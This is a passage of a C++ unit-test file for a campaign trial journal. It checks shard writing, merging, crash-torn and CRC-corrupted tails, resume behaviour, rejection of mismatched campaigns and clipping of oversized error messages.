  auto scenarios = two_synthetic_scenarios();
  store::JournalMeta meta = store::JournalMeta::describe(7, 4, scenarios);
  Rng rng{5};
  TrialResult r = random_result(rng, 2);
  for (u32 id = 0; id < 2; ++id) {
    store::ShardWriter w(dir.path, meta, id);
    w.append(1, r);
    w.close();
  }
  store::JournalMerge merge(dir.path);
  store::JournalRecord rec;
  ASSERT_TRUE(merge.next(rec));
  EXPECT_EQ(rec.scenario, 1u);
  expect_identical(rec.result, r);
  EXPECT_FALSE(merge.next(rec));

  store::JournalScan scan = store::scan_journal(dir.path);
  EXPECT_EQ(scan.records, 1u);  // distinct (scenario, trial) pairs
}

TEST(TrialJournal, TornTailLosesOnlyTheFinalFrame) {
  TempJournalDir dir("torn");
  auto scenarios = two_synthetic_scenarios();
  store::JournalMeta meta = store::JournalMeta::describe(3, 8, scenarios);
  Rng rng{42};
  {
    store::ShardWriter w(dir.path, meta, 0);
    for (u32 t = 0; t < 5; ++t) w.append(0, random_result(rng, t));
    w.close();
  }
  const std::string shard = dir.path + "/" + store::shard_filename(0);

  // Chopping one byte at a time walks the torn frame back to the previous
  // record boundary; truncate_torn_tails then removes the whole torn frame.
  for (int expected = 4; expected >= 0; --expected) {
    fs::resize_file(shard, fs::file_size(shard) - 1);
    store::JournalScan scan = store::scan_journal(dir.path);
    ASSERT_TRUE(scan.found);
    EXPECT_EQ(scan.records, static_cast<u64>(expected));
    EXPECT_LT(scan.shards[0].valid_bytes, scan.shards[0].file_bytes);
    store::truncate_torn_tails(scan);
    EXPECT_EQ(fs::file_size(shard), scan.shards[0].valid_bytes);
    store::JournalScan rescan = store::scan_journal(dir.path);
    EXPECT_EQ(rescan.records, static_cast<u64>(expected));
  }

  // One more cut tears the header itself: the shard contributes nothing
  // and truncate_torn_tails deletes the debris.
  fs::resize_file(shard, fs::file_size(shard) - 1);
  store::JournalScan scan = store::scan_journal(dir.path);
  EXPECT_FALSE(scan.found);
  ASSERT_EQ(scan.shards.size(), 1u);
  EXPECT_FALSE(scan.shards[0].header_ok);
  store::truncate_torn_tails(scan);
  EXPECT_FALSE(fs::exists(shard));
}

TEST(TrialJournal, CorruptedTailFrameIsDroppedByCrc) {
  TempJournalDir dir("corrupt");
  auto scenarios = two_synthetic_scenarios();
  store::JournalMeta meta = store::JournalMeta::describe(3, 8, scenarios);
  Rng rng{43};
  {
    store::ShardWriter w(dir.path, meta, 0);
    for (u32 t = 0; t < 3; ++t) w.append(0, random_result(rng, t));
    w.close();
  }
  const std::string shard = dir.path + "/" + store::shard_filename(0);
  // Flip the last payload byte: the frame is complete but its CRC fails.
  {
    std::FILE* f = std::fopen(shard.c_str(), "r+b");
    ASSERT_NE(f, nullptr);
    ASSERT_EQ(std::fseek(f, -1, SEEK_END), 0);
    int c = std::fgetc(f);
    ASSERT_EQ(std::fseek(f, -1, SEEK_END), 0);
    std::fputc(c ^ 0xFF, f);
    std::fclose(f);
  }
  store::JournalScan scan = store::scan_journal(dir.path);
  EXPECT_EQ(scan.records, 2u);
  EXPECT_EQ(scan.done[0][0], 1);
  EXPECT_EQ(scan.done[0][1], 1);
  EXPECT_EQ(scan.done[0][2], 0);
}

TEST(TrialJournal, FreshJournaledRunMatchesInMemoryRunByteForByte) {
  TempJournalDir dir("fresh");
  auto scenarios = two_synthetic_scenarios();
  CampaignConfig in_memory{.seed = 11, .trials = 16, .threads = 2};
  CampaignReport baseline = CampaignRunner(in_memory).run(scenarios);

  CampaignConfig journaled = in_memory;
  journaled.journal_dir = dir.path;
  CampaignReport streamed = CampaignRunner(journaled).run(scenarios);

  // The runner's report holds aggregates only — no resident trial rows —
  // and those aggregates are byte-identical to the in-memory fold.
  for (const ScenarioAggregate& agg : streamed.scenarios) {
    EXPECT_TRUE(agg.results.empty());
  }
  EXPECT_EQ(streamed.to_json(/*include_trials=*/false),
            baseline.to_json(/*include_trials=*/false));

  // The journal holds the full campaign: read_report rebuilds per-trial
  // rows byte-identical to the uninterrupted in-memory report.
  CampaignReport rebuilt = store::read_report(dir.path);
  EXPECT_EQ(rebuilt.to_json(), baseline.to_json());
  EXPECT_EQ(rebuilt.to_table(), baseline.to_table());
}

TEST(TrialJournal, ResumeExecutesOnlyMissingTrialsAndReportIsIdentical) {
  auto scenarios = two_synthetic_scenarios();
  const u32 trials = 8;
  CampaignReport baseline =
      CampaignRunner({.seed = 42, .trials = trials, .threads = 1})
          .run(scenarios);

  for (u32 threads : {1u, 8u}) {
    TempJournalDir dir("resume_t" + std::to_string(threads));
    // Journal K of N trials by hand — exactly what a killed run leaves
    // behind: scenario 0 has trials {0,1,2}, scenario 1 has {1,5}.
    store::JournalMeta meta =
        store::JournalMeta::describe(42, trials, scenarios);
    {
      store::ShardWriter w(dir.path, meta, 0);
      const std::pair<u32, u32> done[] = {{0, 0}, {0, 1}, {0, 2}, {1, 1},
                                          {1, 5}};
      for (auto [s, t] : done) {
        TrialContext ctx;
        ctx.campaign_seed = 42;
        ctx.trial = t;
        ctx.seed = CampaignRunner::trial_seed(42, scenarios[s], t);
        w.append(s, run_trial(scenarios[s], ctx));
      }
      w.close();
    }

    CampaignConfig cfg{.seed = 42, .trials = trials, .threads = threads};
    cfg.journal_dir = dir.path;
    cfg.resume = true;
    CampaignRunner runner(cfg);
    std::atomic<u32> executed{0};
    runner.set_progress(
        [&](const ScenarioSpec&, const TrialResult&) { executed++; });
    CampaignReport resumed = runner.run(scenarios);

    // Only the 2*8 - 5 missing trials ran; journaled ones were skipped.
    EXPECT_EQ(executed.load(), 2 * trials - 5);
    EXPECT_EQ(resumed.to_json(/*include_trials=*/false),
              baseline.to_json(/*include_trials=*/false));
    EXPECT_EQ(store::read_report(dir.path).to_json(), baseline.to_json());
  }
}

TEST(TrialJournal, KilledRunWithTornTailResumesToIdenticalReport) {
  TempJournalDir dir("kill");
  auto scenarios = two_synthetic_scenarios();
  CampaignConfig cfg{.seed = 77, .trials = 8, .threads = 1};
  CampaignReport baseline = CampaignRunner(cfg).run(scenarios);

  cfg.journal_dir = dir.path;
  (void)CampaignRunner(cfg).run(scenarios);
  // Simulate SIGKILL mid-append: tear the tail of the single shard.
  const std::string shard = dir.path + "/" + store::shard_filename(0);
  fs::resize_file(shard, fs::file_size(shard) - 5);

  cfg.resume = true;
  CampaignRunner resumer(cfg);
  std::atomic<u32> executed{0};
  resumer.set_progress(
      [&](const ScenarioSpec&, const TrialResult&) { executed++; });
  CampaignReport resumed = resumer.run(scenarios);

  EXPECT_EQ(executed.load(), 1u);  // exactly the torn trial re-ran
  EXPECT_EQ(resumed.to_json(false), baseline.to_json(false));
  EXPECT_EQ(store::read_report(dir.path).to_json(), baseline.to_json());
}

TEST(TrialJournal, ResumeOfCompleteJournalExecutesNothing) {
  TempJournalDir dir("noop");
  auto scenarios = two_synthetic_scenarios();
  CampaignConfig cfg{.seed = 5, .trials = 4, .threads = 2};
  cfg.journal_dir = dir.path;
  CampaignReport first = CampaignRunner(cfg).run(scenarios);

  cfg.resume = true;
  CampaignRunner again(cfg);
  std::atomic<u32> executed{0};
  again.set_progress(
      [&](const ScenarioSpec&, const TrialResult&) { executed++; });
  CampaignReport second = again.run(scenarios);
  EXPECT_EQ(executed.load(), 0u);
  EXPECT_EQ(second.to_json(false), first.to_json(false));
}

TEST(TrialJournal, ResumeRejectsMismatchedCampaigns) {
  TempJournalDir dir("mismatch");
  auto scenarios = two_synthetic_scenarios();
  CampaignConfig cfg{.seed = 1, .trials = 4, .threads = 1};
  cfg.journal_dir = dir.path;
  (void)CampaignRunner(cfg).run(scenarios);

  // Same directory, different campaign seed.
  CampaignConfig other = cfg;
  other.resume = true;
  other.seed = 2;
  EXPECT_THROW((void)CampaignRunner(other).run(scenarios),
               std::runtime_error);

  // Different trial count.
  other = cfg;
  other.resume = true;
  other.trials = 8;
  EXPECT_THROW((void)CampaignRunner(other).run(scenarios),
               std::runtime_error);

  // Different scenario set.
  other = cfg;
  other.resume = true;
  auto renamed = two_synthetic_scenarios();
  renamed[1].name = "synthetic/renamed";
  EXPECT_THROW((void)CampaignRunner(other).run(renamed), std::runtime_error);

  // And a dirty directory without resume is always an error.
  EXPECT_THROW((void)CampaignRunner(cfg).run(scenarios), std::runtime_error);
}

TEST(TrialJournal, OversizedErrorStringsAreClippedNotWedged) {
  // A >1 MiB exception message must not produce a frame the readers
  // reject as corrupt — that would hide every later record in the shard
  // and make the campaign unresumable (scan re-runs the trial, appends
  // the same oversized frame, fails identically forever).
  TempJournalDir dir("bigerr");
  auto scenarios = two_synthetic_scenarios();
  store::JournalMeta meta = store::JournalMeta::describe(1, 4, scenarios);
  TrialResult big;
  big.trial = 0;
  big.seed = 9;
  big.error = std::string(store::kMaxErrorBytes + 4096, 'e');
  TrialResult after;
  after.trial = 1;
  after.seed = 10;
  after.success = true;
  {
    store::ShardWriter w(dir.path, meta, 0);
    w.append(0, big);
    w.append(0, after);
    w.close();
  }
  store::JournalScan scan = store::scan_journal(dir.path);
  EXPECT_EQ(scan.records, 2u);  // the record after the big one survives
  store::JournalMerge merge(dir.path);
  store::JournalRecord rec;
  ASSERT_TRUE(merge.next(rec));
  EXPECT_EQ(rec.result.error.size(), store::kMaxErrorBytes);
  ASSERT_TRUE(merge.next(rec));
  expect_identical(rec.result, after);
}

TEST(TrialJournal, DuplicateScenarioNamesAreRejectedBeforeAnyTrialRuns) {
  // Records are keyed by scenario-name hash: a duplicate name would make
  // the journal unreadable only after every trial already executed. The
  // journaled runner must reject it up front instead.
  TempJournalDir dir("dupname");
  std::vector<ScenarioSpec> scenarios;
  scenarios.push_back(synthetic_scenario("synthetic/same"));
  scenarios.push_back(synthetic_scenario("synthetic/same"));
  CampaignConfig cfg{.seed = 1, .trials = 2, .threads = 1};
  cfg.journal_dir = dir.path;
  CampaignRunner runner(cfg);
  std::atomic<u32> executed{0};
  runner.set_progress(
      [&](const ScenarioSpec&, const TrialResult&) { executed++; });
  EXPECT_THROW((void)runner.run(scenarios), std::invalid_argument);
  EXPECT_EQ(executed.load(), 0u);
}

TEST(TrialJournal, ReadReportRejectsEmptyDirectory) {
  TempJournalDir dir("empty");
  EXPECT_THROW((void)store::read_report(dir.path), std::runtime_error);
  EXPECT_THROW((void)store::read_report(dir.path + "/does-not-exist"),
               std::runtime_error);
}

}  // namespace
}  // namespace dnstime::campaign
